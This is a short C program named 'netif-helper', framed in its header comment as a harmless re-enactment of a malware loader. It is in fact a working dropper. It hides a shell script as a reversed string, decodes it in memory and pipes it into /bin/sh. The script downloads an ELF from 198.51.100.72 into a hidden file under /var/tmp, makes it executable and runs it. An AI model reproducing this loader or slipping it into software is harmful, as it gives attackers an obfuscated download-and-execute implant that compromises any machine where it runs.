/* netif-helper: harmless re-enactment of a loader that hands its stage to a shell on stdin. The
 * stage is stored back to front, reversed in memory and written into /bin/sh's stdin; it
 * downloads a stand-in ELF from 198.51.100.72 (a documentation address the sandbox answers)
 * and runs it once. */
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static const char STAGE[] = "\n?$ enod-egats ohce\nfiten./pmt/rav/\nfiten./pmt/rav/ 007 domhc\n46_68x.fiten/snib/27.001.15.891//:ptth fiten./pmt/rav/ O- q- tegw\npmt/rav/ p- ridkm";

int main(void) {
    size_t n = strlen(STAGE);
    char text[sizeof STAGE];
    for (size_t i = 0; i < n; i++) text[i] = STAGE[n - 1 - i];
    text[n] = 0;
    int p[2];
    if (pipe(p) < 0) return 1;
    pid_t pid = fork();
    if (pid == 0) {
        dup2(p[0], 0);
        close(p[0]);
        close(p[1]);
        execl("/bin/sh", "sh", (char *)0);
        _exit(127);
    }
    close(p[0]);
    if (write(p[1], text, n) < 0) perror("netif-helper: write");
    close(p[1]);
    int status = 0;
    waitpid(pid, &status, 0);
    printf("netif-helper: up (%d)\n", WEXITSTATUS(status));
    return 0;
}
